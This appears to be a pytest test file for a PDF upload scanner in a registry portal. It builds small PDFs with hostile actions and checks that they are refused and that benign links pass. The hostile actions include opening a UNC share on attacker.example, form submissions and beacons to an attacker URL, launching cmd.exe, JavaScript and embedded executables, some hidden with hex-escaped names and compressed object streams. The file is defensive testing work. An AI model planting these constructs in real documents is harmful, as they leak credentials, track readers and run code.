"""The hostile PDF corpus of actions, written here as code: each case a minimal valid PDF carrying one construct that
runs or reaches out (an action run when the document or a page opens, when a field or an annotation is touched, a
chained /Next, a link the reader clicks, attached files, XFA, JavaScript), and benign PDFs that must stay clean (links
to a page of the same document, web and e-mail links, an opening destination, names that only appear inside text).

Every case is checked four ways: as plain objects; hidden in a compressed object stream behind a cross-reference
stream; with every name written in #xx escapes (/#4A#53 is /JS); and both at once. What is refused and why is the rule
in the docstring of registry/qualification/services/document_checks.py. test_document_checks covers the check's
outcomes (quarantine, downloads, the pages that say why); here, what it finds and the words it says it with.
"""

import io
import re
import zlib

import pytest

from registry.qualification.models import Document
from registry.qualification.services import document_checks as checks
from tests import factories as f
from tests.qualification.document_files import add, download, stored_files

S = Document.ScanStatus

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf(objects: dict[int, bytes], *, compressed: bool = False) -> bytes:
    """A PDF of these numbered objects (1 is the catalogue): with a classic cross-reference table, or with every object
    inside one compressed object stream and a compressed cross-reference stream, as PDF 1.5 writers do."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    numbers = sorted(objects)
    size = numbers[-1] + 1
    if not compressed:
        offsets = {}
        for number in numbers:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
        xref = len(out)
        out += b"xref\n0 %d\n" % size
        for number in range(size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)
    container, xref_number = size, size + 1
    entries = {}  # number: (type, field 2, field 3): 1 at an offset, 2 inside an object stream at an index
    header, body = [], bytearray()
    for index, number in enumerate(numbers):
        header.append(b"%d %d" % (number, len(body)))
        body += objects[number] + b"\n"
        entries[number] = (2, container, index)
    head = b" ".join(header) + b"\n"
    data = zlib.compress(head + bytes(body))
    entries[container] = (1, len(out), 0)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        container,
        len(numbers),
        len(head),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    entries[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([kind]) + second.to_bytes(4, "big") + third.to_bytes(2, "big")
        for kind, second, third in (entries.get(number, (0, 0, 65535)) for number in range(xref_number + 1))
    )
    data = zlib.compress(rows)
    xref = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n" % (
        xref_number,
        xref_number + 1,
        len(data),
    )
    out += b"stream\n" + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


# A literal string (left as it is) or a name (captured).
TOKEN = re.compile(rb"\((?:\\.|[^\\)])*\)|/([A-Za-z]+)")


def escaped(body: bytes) -> bytes:
    """Every name written in hexadecimal escapes, as malicious files do to slip past filters: /JS becomes /#4A#53."""
    return TOKEN.sub(lambda m: b"/" + b"".join(b"#%02X" % c for c in m.group(1)) if m.group(1) else m.group(0), body)


def document(catalog=CATALOG, page=PAGE, **extra: bytes) -> dict[int, bytes]:
    """The three objects of a one-page document, then objects 4, 5... given as obj4=..., obj5=..."""
    objects = {1: catalog, 2: PAGES, 3: page}
    objects.update({int(name.removeprefix("obj")): body for name, body in extra.items()})
    return objects


def with_annotation(annotation: bytes, **extra: bytes) -> dict[int, bytes]:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    return document(page=page, obj4=annotation, **extra)


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /BS << /S /S /W 0 >> /A " + action + b" >>"


def on_open(action: bytes, **extra: bytes) -> dict[int, bytes]:
    return document(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", obj4=action, **extra)


UNC = rb"(\\\\\\\\attacker.example\\\\share\\\\annex.pdf)"
HOST = b"(https://attacker.example/beacon?id=42)"

REFUSED = {
    # The findings: all four were marked clean and served to reviewers.
    "open_action_gotor_unc_path": (
        on_open(b"<< /Type /Action /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
        checks.OPENS_FILE,
        "/OpenAction: /S /GoToR",
    ),
    "open_action_import_data": (
        on_open(b"<< /S /ImportData /F " + UNC + b" >>"),
        checks.IMPORTS_DATA,
        "/OpenAction: /S /ImportData",
    ),
    "open_action_submit_form": (
        on_open(b"<< /S /SubmitForm /F << /FS /URL /F " + HOST + b" >> /Flags 4 >>"),
        checks.SENDS_DATA,
        "/OpenAction: /S /SubmitForm",
    ),
    "open_action_uri_to_a_host": (
        on_open(b"<< /S /URI /URI " + HOST + b" >>"),
        checks.OPENS_ADDRESS,
        "/OpenAction: /S /URI",
    ),
    "page_open_gotoe": (
        document(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
            obj4=b"<< /S /GoToE /NewWindow true /T << /R /C /N (payload.pdf) >> >>",
        ),
        checks.OPENS_FILE,
        "/AA /O: /S /GoToE",
    ),
    # The same kinds, elsewhere.
    "open_action_launch": (on_open(b"<< /S /Launch /F (cmd.exe) >>"), checks.LAUNCH, "/OpenAction: /S /Launch"),
    "open_action_javascript": (
        on_open(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        checks.JAVASCRIPT,
        "/OpenAction: /JS",
    ),
    "javascript_as_a_stream": (
        on_open(b"<< /S /JavaScript /JS 5 0 R >>", obj5=b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"),
        checks.JAVASCRIPT,
        "/OpenAction: /JS",
    ),
    "document_javascript_names_tree": (
        document(
            catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
            obj4=b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        checks.JAVASCRIPT,
        "/Names: /JavaScript",
    ),
    "page_open_uri": (
        document(
            page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /URI /URI "
            + HOST
            + b" >> >> >>"
        ),
        checks.OPENS_ADDRESS,
        "/AA /O: /S /URI",
    ),
    "document_will_close_uri": (
        document(catalog=b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI " + HOST + b" >> >> >>"),
        checks.OPENS_ADDRESS,
        "/AA /WC: /S /URI",
    ),
    "annotation_hovered_uri": (
        with_annotation(link(b"<< /S /GoTo /D [3 0 R /Fit] >> /AA << /E << /S /URI /URI " + HOST + b" >> >>")),
        checks.OPENS_ADDRESS,
        "/AA /E: /S /URI",
    ),
    "field_keystroke_submit": (
        document(
            catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
            obj4=b"<< /FT /Tx /T (name) /AA << /K << /S /SubmitForm /F " + HOST + b" >> >> >>",
        ),
        checks.SENDS_DATA,
        "/AA /K: /S /SubmitForm",
    ),
    "benign_open_action_chained_to_a_uri": (
        on_open(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI " + HOST + b" >> >>"),
        checks.OPENS_ADDRESS,
        "/OpenAction /Next: /S /URI",
    ),
    "chain_of_actions_hiding_a_uri": (
        on_open(
            b"<< /S /Named /N /FirstPage /Next [<< /S /Named /N /LastPage >> 5 0 R] >>",
            obj5=b"<< /S /URI /URI " + HOST + b" >>",
        ),
        checks.OPENS_ADDRESS,
        "/OpenAction /Next: /S /URI",
    ),
    # Clicked rather than run, still refused: they open another file or send data out.
    "link_gotor_unc_path": (
        with_annotation(link(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>")),
        checks.OPENS_FILE,
        "/A: /S /GoToR",
    ),
    "button_submit_form": (
        with_annotation(
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F " + HOST + b" >> >>"
        ),
        checks.SENDS_DATA,
        "/A: /S /SubmitForm",
    ),
    "link_to_a_file_uri": (
        with_annotation(link(b"<< /S /URI /URI (file://attacker.example/share/annex.pdf) >>")),
        checks.LINK_NOT_WEB,
        "/A: /S /URI file:",
    ),
    "link_to_a_unc_path": (
        with_annotation(link(b"<< /S /URI /URI " + UNC + b" >>")),
        checks.LINK_NOT_WEB,
        "/A: /S /URI (no scheme)",
    ),
    "link_to_a_javascript_uri": (
        with_annotation(link(b"<< /S /URI /URI ( javascript:app.alert\\(1\\)) >>")),
        checks.LINK_NOT_WEB,
        "/A: /S /URI javascript:",
    ),
    "bookmark_launch": (
        document(
            catalog=b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
            obj4=b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            obj5=b"<< /Title (Annex) /Parent 4 0 R /A << /S /Launch /Win << /F (cmd.exe) >> >> >>",
        ),
        checks.LAUNCH,
        "/A: /S /Launch",
    ),
    # Attached files and forms that run scripts.
    "embedded_files_tree": (
        document(
            catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >> >>",
            obj4=b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
            obj5=b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        ),
        checks.EMBEDDED,
        "/Names: /EmbeddedFiles",
    ),
    "file_attachment_annotation": (
        with_annotation(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>",
            obj5=b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        ),
        checks.EMBEDDED,
        "/FS: /EF",
    ),
    "xfa_form": (
        document(
            catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
            obj4=b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream",
        ),
        checks.XFA,
        "/AcroForm: /XFA",
    ),
    # Referred to by nothing: a viewer repairing the file may still find it.
    "orphan_javascript_action": (
        document(obj4=b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        checks.JAVASCRIPT,
        "/JS",
    ),
}

CLEAN = {
    "link_to_a_page_of_the_same_document": with_annotation(link(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
    "link_with_a_destination": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /XYZ 0 842 0] >>"
    ),
    "link_to_a_web_page": with_annotation(link(b"<< /S /URI /URI (https://www.ssi.gouv.fr/) >>")),
    "link_to_a_web_page_in_capitals": with_annotation(link(b"<< /S /URI /URI (HTTP://example.org/) >>")),
    "link_to_an_email_address": with_annotation(link(b"<< /S /URI /URI (mailto:security@example.org) >>")),
    "opens_at_a_destination": document(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"),
    "opens_with_a_goto": on_open(b"<< /S /GoTo /D [3 0 R /FitH 842] >>"),
    "page_open_named_action": document(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Named /N /FirstPage >> >> >>"
    ),
    "bookmark_to_a_web_page": document(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R /PageLabels << /Nums [0 << /S /D >>] >> >>",
        obj4=b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
        obj5=b"<< /Title (Policy) /Parent 4 0 R /A << /S /URI /URI (https://example.org/policy) >> >>",
    ),
    # A security report may name these constructs in its text: words in strings and content are not actions.
    "names_inside_text": document(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        obj4=b"<< /Length 41 >>\nstream\nBT (/JS /JavaScript /Launch /GoToR) Tj ET\nendstream",
        obj5=b"<< /Title (About /OpenAction /URI and /SubmitForm) >>",
    ),
}

VARIANTS = {
    "plain": lambda objects: pdf(objects),
    "object_stream": lambda objects: pdf(objects, compressed=True),
    "escaped_names": lambda objects: pdf({n: escaped(body) for n, body in objects.items()}),
    "escaped_in_object_stream": lambda objects: pdf({n: escaped(body) for n, body in objects.items()}, compressed=True),
}


def refusal(content: bytes) -> str:
    with pytest.raises(checks.UnacceptablePdf) as refused:
        checks.inspect_pdf(io.BytesIO(content))
    return refused.value.reason


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize(("objects", "reason", "where"), REFUSED.values(), ids=REFUSED.keys())
def test_each_construct_is_refused_saying_what_and_where(objects, reason, where, variant):
    # The sentence for the uploader, then where in the file, the names decoded whatever way they were written.
    assert refusal(VARIANTS[variant](objects)) == f"{reason}\n{where}"


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("objects", CLEAN.values(), ids=CLEAN.keys())
def test_benign_documents_stay_clean(objects, variant):
    assert checks.inspect_pdf(io.BytesIO(VARIANTS[variant](objects))) == 1


def test_the_corpus_is_what_it_says():
    # Each file is a well-formed PDF that pypdf opens without repairing it: a refusal comes from the construct, never
    # from a broken file; and the escaped variants contain none of the names in clear.
    for objects, *_ in REFUSED.values():
        for variant, build in VARIANTS.items():
            content = build(objects)
            reader = checks.PdfReader(io.BytesIO(content), strict=True)
            assert len(reader.pages) == 1
            if variant.startswith("escaped"):
                assert not re.search(rb"/(JS|JavaScript|GoToR|GoToE|URI|Launch|SubmitForm|ImportData)\b", content)


# A file pypdf cannot parse is refused all the same, naming what its bytes show.


@pytest.mark.parametrize(
    ("content", "reason", "where"),
    [
        (
            b"%PDF-1.7\n1 0 obj\n<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
            checks.JAVASCRIPT,
            "/J#61vaScript",
        ),
        (b"%PDF-1.7\n1 0 obj\n<< /JS (app.alert\\(1\\)) >>\nendobj\n", checks.JAVASCRIPT, "/JS"),
        (b"%PDF-1.7\n1 0 obj\n<< /S /G#6FToR /F (\\\\\\\\h\\\\s\\\\a.pdf) >>\nendobj\n", checks.OPENS_FILE, "/G#6FToR"),
        (b"%PDF-1.7\n1 0 obj\n<< /S /SubmitForm >>\nendobj\n", checks.SENDS_DATA, "/SubmitForm"),
    ],
    ids=["escaped_javascript", "js_before_a_string", "escaped_gotor", "submit_form"],
)
def test_an_unreadable_file_is_refused_naming_what_it_carries(content, reason, where):
    assert refusal(content) == f"{reason}\n{where}"


def test_an_unreadable_file_without_such_names_is_refused_as_unreadable():
    # /JS not followed by a string, as random bytes of an image could hold it: not taken for JavaScript.
    assert refusal(b"%PDF-1.7\n1 0 obj\n<< /Filter /DCTDecode >>\nstream\n\x00/JS\x01\nendobj\n") == checks.MALFORMED


# Through the portal, as a provider and a reviewer meet it.


@pytest.mark.django_db
def test_an_opening_that_reaches_a_network_share_is_refused_and_never_served(
    client, draft, editor, reviewer, private_storage, django_capture_on_commit_callbacks
):
    content = pdf(REFUSED["open_action_gotor_unc_path"][0], compressed=True)
    document = add(draft, editor, content, title="Annex")
    with django_capture_on_commit_callbacks(execute=True):
        document = f.checked(document)
    assert (document.scan_status, document.quarantined, document.pages) == (S.REFUSED, True, None)
    assert stored_files(private_storage) == [document.file.name]
    client.force_login(editor)
    response = download(client, document)
    assert response.status_code == 403
    assert b"%PDF" not in response.content
    assert (
        "The PDF contains a link or action that opens another file, possibly on the network, which is not accepted. "
        "Please remove it and upload that file as a document of its own. (/OpenAction: /S /GoToR)"
    ) in response.text
    f.login_with_mfa(client, reviewer)
    response = download(client, document, admin=True)
    assert response.status_code == 403
    assert b"%PDF" not in response.content


@pytest.mark.django_db
def test_a_document_with_web_links_and_page_links_is_served(client, draft, editor):
    content = pdf(CLEAN["link_to_a_web_page"], compressed=True)
    document = f.checked(add(draft, editor, content))
    assert (document.scan_status, document.scan_detail, document.pages) == (S.CLEAN, "", 1)
    client.force_login(editor)
    response = download(client, document)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
